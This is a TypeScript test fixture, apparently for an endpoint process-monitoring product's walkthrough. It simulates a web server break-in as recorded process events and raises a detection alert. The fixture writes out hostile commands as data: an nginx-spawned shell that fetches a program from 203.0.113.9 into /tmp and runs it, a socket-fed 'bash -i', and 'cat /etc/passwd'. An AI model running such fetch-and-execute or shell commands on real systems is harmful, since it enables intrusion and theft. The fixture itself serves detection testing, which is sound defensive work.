/**
 * A host on the morning after a break-in, for docs/walkthrough.md: a web server was made to fetch a program and run it.
 *
 * Every event went the product's way (message, row of the store, digest in the ledger), so that each can be proven.
 *
 * @module
 */
import { columnPlaces, eventRow } from "../../proto/event_row.ts";
import { EventDigester } from "../../proto/ledger/event_digest.ts";
import { encodeStatement } from "../../proto/ledger/statement.ts";
import { blankProcessEvent, type ProcessEvent } from "../../proto/process_event.ts";
import { decodeMessage, encodeMessage } from "../../proto/wire.ts";
import { BLAKE3 } from "../collector/ledger/support.ts";
import { AuditWorld } from "./audit_world.ts";
import { NOW, type Row, testProcess } from "./test_store.ts";

const BASE = 2 ** 40, COLUMNS = [...columnPlaces("process_events").keys()];
const NIGHT = Date.UTC(2026, 7, 5, 0, 10);
const KIT_HASH = "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef";

type Some = Partial<ProcessEvent> & { readonly command: string };

/** Disposed of, it is gone. The ledger's clock stands at {@linkcode NOW}. */
export async function intrusionWorld(): Promise<AuditWorld> {
  const world = await AuditWorld.make(3), { state } = world;
  const digester = new EventDigester(BLAKE3);
  let sequence = 0;
  const add = (kind: ProcessEvent["kind"], pid: number, time: number, { command, ...more }: Some): number => {
    sequence += 1;
    const argv = new TextEncoder().encode(command.split(" ").map((word) => `${word}\0`).join(""));
    const event: ProcessEvent = {
      ...blankProcessEvent(kind, time, testProcess(pid), pid),
      argv,
      argvLength: argv.length,
      userId: 33,
      userName: "www-data",
      effectiveUserId: 33,
      source: "ebpf",
      ...more,
    };
    const payload = encodeMessage({ kind: "events", firstSequence: sequence, events: [event] });
    digester.add(sequence, 1, payload);
    const message = decodeMessage(payload);
    if (message.kind !== "events") throw new Error("An event must decode as one");
    const row = eventRow(message.events[0]!, BASE + sequence, "procmond");
    state.insert("process_events", Object.fromEntries(COLUMNS.map((name, at) => [name, row[at]])) as Row);
    return BASE + sequence;
  };
  const usual = (name: string): Partial<ProcessEvent> => ({
    name,
    executablePath: `/usr/bin/${name}`,
    executableHash: "11".repeat(32),
    hashAlgorithm: "sha256",
  });
  const root = { userId: 0, userName: "root", effectiveUserId: 0 },
    alice = { userId: 1000, userName: "alice", effectiveUserId: 1000 };
  const parent = (pid: number, name: string) => ({ ppid: pid, parentExecId: testProcess(pid), parentName: name });

  // The day before: what is usual
  add("start", 640, NIGHT - 70_000_000, { ...usual("ls"), ...alice, ...parent(900, "bash"), command: "ls -l" });
  add("start", 641, NIGHT - 60_000_000, {
    ...usual("sh"),
    ...root,
    ...parent(1, "systemd"),
    command: "sh -c logrotate",
  });
  add("start", 642, NIGHT - 59_000_000, {
    ...usual("curl"),
    ...alice,
    ...parent(900, "bash"),
    command: "curl -sI https://example.test/",
  });
  // Somebody works in the evening
  add("start", 2_100, NIGHT - 700_000, {
    ...usual("vim"),
    ...alice,
    ...parent(900, "bash"),
    command: "vim /etc/nginx/nginx.conf",
  });
  add("start", 2_101, NIGHT - 650_000, {
    ...usual("sudo"),
    ...alice,
    effectiveUserId: 0,
    ...parent(900, "bash"),
    command: "sudo systemctl reload nginx",
  });
  // The break-in
  const shell = {
    ...usual("sh"),
    ...parent(700, "nginx"),
    command: "sh -c curl -s http://203.0.113.9/k -o /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
  };
  add("start", 2_300, NIGHT + 2_000, shell);
  add("start", 2_301, NIGHT + 2_040, {
    ...usual("curl"),
    ...parent(2_300, "sh"),
    command: "curl -s http://203.0.113.9/k -o /tmp/.k",
  });
  add("stop", 2_301, NIGHT + 2_900, {
    ...usual("curl"),
    ...parent(2_300, "sh"),
    command: "curl -s http://203.0.113.9/k -o /tmp/.k",
    exitCode: 0,
    durationMs: 860,
  });
  const kit = {
    name: ".k",
    executablePath: "/tmp/.k",
    executableHash: KIT_HASH,
    hashAlgorithm: "sha256",
    ...parent(2_300, "sh"),
  };
  const started = add("start", 2_302, NIGHT + 3_000, { ...kit, command: "/tmp/.k" });
  add(
    "start",
    2_303,
    NIGHT + 4_500,
    { ...usual("bash"), ...parent(2_302, ".k"), stdinKind: "socket", command: "bash -i" } as Some,
  );
  add("start", 2_304, NIGHT + 60_000, { ...usual("id"), ...parent(2_303, "bash"), command: "id" });
  add("start", 2_305, NIGHT + 75_000, { ...usual("cat"), ...parent(2_303, "bash"), command: "cat /etc/passwd" });

  const digest = encodeStatement("events", { ...digester.take()!, epoch: "e1" });
  world.ledger.append("events", "collector", digest);
  world.ledger.checkpoint();
  world.write();

  state.writeStatus({}, {});
  const stream = { stream: 1, collector_id: "procmond", epoch: "e1", version: "0.1.0", source: "ebpf" };
  state.insert("collectors", { ...stream, first_seen: NIGHT - 9e7, last_seen: NOW, last_sequence: 500 });
  state.scan(NOW - 5_000);
  const process = (pid: number, name: string, row: Row): void =>
    state.process(pid, {
      name,
      executable_path: `/usr/bin/${name}`,
      user_id: 33,
      user_name: "www-data",
      effective_user_id: 33,
      ...row,
    });
  const of = (pid: number, start: number): Row => ({ ppid: pid, parent_exec_id: testProcess(pid), start_time: start });
  const superuser = { user_id: 0, user_name: "root", effective_user_id: 0 };
  process(1, "systemd", { ...superuser, ppid: 0, start_time: NIGHT - 9e7, command_line: "/sbin/init" });
  process(700, "nginx", { ...of(1, NIGHT - 8e7), command_line: "nginx: worker process" });
  process(900, "bash", {
    ...of(1, NIGHT - 8e7),
    user_id: 1000,
    user_name: "alice",
    effective_user_id: 1000,
    command_line: "-bash",
  });
  const over = { end_time: NIGHT + 3_000, status: "ended", exit_code: 0 };
  process(2_300, "sh", { ...of(700, NIGHT + 2_000), ...over, command_line: shell.command });
  process(2_301, "curl", {
    ...of(2_300, NIGHT + 2_040),
    ...over,
    end_time: NIGHT + 2_900,
    command_line: "curl -s http://203.0.113.9/k -o /tmp/.k",
  });
  process(2_302, ".k", {
    ...of(2_300, NIGHT + 3_000),
    executable_path: "/tmp/.k",
    executable_kind: "deleted",
    command_line: "/tmp/.k",
  });
  process(2_303, "bash", { ...of(2_302, NIGHT + 4_500), stdin_kind: "socket", command_line: "bash -i" });
  const short = { user_id: 33, status: "ended", exit_code: 0 };
  process(2_304, "id", { ...of(2_303, NIGHT + 60_000), ...short, end_time: NIGHT + 60_010, command_line: "id" });
  process(2_305, "cat", { ...of(2_303, NIGHT + 75_000), ...short, end_time: NIGHT + 75_010, command_line: "cat" });
  state.alert(started, {
    rule_id: "execution-from-odd-directory",
    title: "Program run from a directory for temporary files",
    description: "Programs are not installed there.",
    time: NIGHT + 3_000,
    detected_time: NIGHT + 3_006,
    severity: "high",
    exec_id: testProcess(2_302),
    pid: 2_302,
    ppid: 2_300,
    name: ".k",
    executable_path: "/tmp/.k",
    command_line: "/tmp/.k",
    user_id: 33,
    user_name: "www-data",
    parent_name: "sh",
    parent_executable_path: "/usr/bin/sh",
    parent_command_line: shell.command,
    evidence: JSON.stringify({ pid: 2_302, executable_path: "/tmp/.k" }),
  });
  return world;
}
